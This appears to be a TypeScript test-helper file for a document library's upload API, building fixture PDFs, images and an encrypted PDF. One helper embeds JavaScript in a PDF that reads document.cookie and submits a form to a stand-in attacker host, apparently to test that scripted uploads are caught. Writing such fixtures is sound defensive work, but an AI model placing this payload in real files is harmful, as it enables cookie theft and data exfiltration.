import type { LibraryItemDetails } from '@quad/contract/library';
import { PDFDocument, StandardFonts } from 'pdf-lib';
import sharp from 'sharp';
import type { Answer, TestContext, TestPerson } from './context.ts';

/** A PDF with a line on each page. */
export async function pdfOf(...lines: readonly string[]): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  for (const line of lines) pdf.addPage([420, 595]).drawText(line, { x: 30, y: 500, size: 14, font });
  return pdf.save();
}

/** A small picture, another one for each number. */
export function pictureOf(number: number): Promise<Buffer> {
  const background = { r: number % 256, g: (number >> 8) % 256, b: 100 };
  return sharp({ create: { width: 30, height: 40, channels: 3, background } })
    .png()
    .toBuffer();
}

let made = 0;
/** A picture that nobody has uploaded yet. */
export const anyPicture = (): Promise<Buffer> => pictureOf(made++);

/** A PDF with a script that runs when it is opened, and one behind a link. */
export async function pdfWithScripts(): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(await pdfOf('Scripted notes'));
  pdf.addJavaScript('evil', 'app.alert(document.cookie); this.submitForm("https://evil.example")');
  return pdf.save();
}

/** A PDF of so many empty pages behind one with words. */
export async function pdfOfPages(count: number): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(await pdfOf('The first of many'));
  for (let page = 1; page < count; page++) pdf.addPage([200, 300]);
  return pdf.save();
}

/** A PDF that nobody reads without its password. */
export const LOCKED_PDF = Buffer.from(`%PDF-1.4
1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj
2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj
3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]>> endobj
4 0 obj <</Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}>>> endobj
trailer <</Root 1 0 R /Encrypt 4 0 R /ID [<${'01'.repeat(16)}> <${'01'.repeat(16)}>] /Size 5>>
%%EOF
`);

/** Uploads an item; answers what the call does. */
export function tryUpload(
  quad: TestContext,
  as: TestPerson,
  file: Uint8Array | undefined,
  fields: Readonly<Record<string, string>> = {},
): Promise<Answer> {
  const body = new FormData();
  for (const [name, value] of Object.entries({ title: 'Notes', ...fields })) body.set(name, value);
  if (file) body.set('file', new Blob([new Uint8Array(file)]), 'notes.pdf');
  return quad.call('POST', '/api/library', { as, body });
}

/** Uploads an item and answers it. */
export async function uploadItem(...given: Parameters<typeof tryUpload>): Promise<LibraryItemDetails> {
  const { status, body } = await tryUpload(...given);
  if (status !== 201) throw new Error(`an upload answered ${status}: ${JSON.stringify(body)}`);
  return body.item;
}
